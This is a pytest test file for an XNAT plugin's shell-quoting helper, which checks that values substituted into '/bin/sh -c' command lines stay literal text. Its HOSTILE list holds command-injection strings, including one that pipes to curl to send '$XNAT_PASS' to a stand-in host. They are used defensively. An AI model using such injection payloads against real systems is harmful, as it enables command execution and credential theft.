"""Values in a command line reach the program as exactly their text, never as shell syntax.

Container Service pastes values raw into `/bin/sh -c "<command-line>"`
(`DockerControlApi.createDockerContainer`, `withCmd("/bin/sh", "-c", commandLine)`); its input
filter (`CommandResolutionServiceImpl.checkForIllegalInputValue`) refuses only `;`, `&&`, `||`,
a backtick and `(`. Here every value is quoted where it lands, outside quotes, inside '…' or
inside "…", and `/bin/sh` itself reads each rendered line back.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from xnat_plugin.runner.errors import CommandResolutionError
from xnat_plugin.runner.shell_line import Piece, ShellLine

HOSTILE = [
    "tiny' | touch MARKER '",
    "tiny'\ntouch MARKER\n'",
    "tiny & env > MARKER",
    'x" ; touch MARKER ; "',
    "$(touch MARKER)",
    "`touch MARKER`",
    "${HOME}/$XNAT_PASS",
    "a\\'b\\",
    "* ? [a-z]",
    "#not a comment",
    "|curl http://127.0.0.1:9/$XNAT_PASS",
    "  spaced  out  ",
    "'",
    '"',
    "\\",
]
ARGV_PRINTER = "import json, sys; print(json.dumps(sys.argv[1:]))"


def _argv_through_sh(line: ShellLine, cwd: Path) -> list[str]:
    command = f"{sys.executable} -c '{ARGV_PRINTER}' {line.render()}"
    done = subprocess.run(
        ["/bin/sh", "-c", command], cwd=cwd, capture_output=True, text=True, timeout=30
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize(
    ("template", "expected"),
    [
        ("--model /models/#v#", ["--model", "/models/{v}"]),
        ("--model '/models/#v#'", ["--model", "/models/{v}"]),
        ('--label "S_#v#_x"', ["--label", "S_{v}_x"]),
        ("#v#", ["{v}"]),
    ],
)
def test_sh_reads_every_value_back_as_its_own_text(
    tmp_path: Path, value: str, template: str, expected: list[str]
) -> None:
    line = ShellLine.from_template(template, {"#v#": [Piece(value, is_value=True)]})
    argv = _argv_through_sh(line, tmp_path)
    assert argv == [word.replace("{v}", value) for word in expected]
    assert list(tmp_path.iterdir()) == []  # no MARKER, no redirect target


def test_plain_values_are_written_as_container_service_writes_them() -> None:
    pieces = {
        "#id#": [Piece("--session-id "), Piece("XNAT_E00001", True)],
        "#p#": [Piece("96,96,96", True)],
    }
    line = ShellLine.from_template("run #id# --patch #p# '/models/#p#'", pieces)
    assert line.render() == "run --session-id XNAT_E00001 --patch 96,96,96 '/models/96,96,96'"


def test_a_key_inside_a_value_is_not_replaced_again() -> None:
    pieces = {"#a#": [Piece("#b#", True)], "#b#": [Piece("B", True)]}
    assert ShellLine.from_template("x #a# #b#", pieces).render() == "x '#b#' B"


def test_a_value_right_after_a_backslash_is_refused() -> None:
    line = ShellLine.from_template("echo \\#v#", {"#v#": [Piece("x", True)]})
    with pytest.raises(CommandResolutionError, match="after a backslash"):
        line.render()


def test_host_paths_are_quoted_where_they_land(tmp_path: Path) -> None:
    host = tmp_path / "it's a folder"
    line = ShellLine.from_template(
        "--input /input --model '/models/#v#'", {"#v#": [Piece("m", True)]}
    )
    rendered = line.render(host_paths={"/input": host, "/models": host / "M"})
    argv = _argv_through_sh(ShellLine.trusted(rendered), tmp_path)
    assert argv == ["--input", str(host), "--model", f"{host}/M/m"]


def test_sensitive_values_are_masked_however_they_are_quoted() -> None:
    line = ShellLine.from_template(
        "login '#t#'", {"#t#": [Piece("it's secret", is_value=True, sensitive=True)]}
    )
    assert "secret" not in line.render(mask_sensitive=True)
    assert "secret" in line.render()
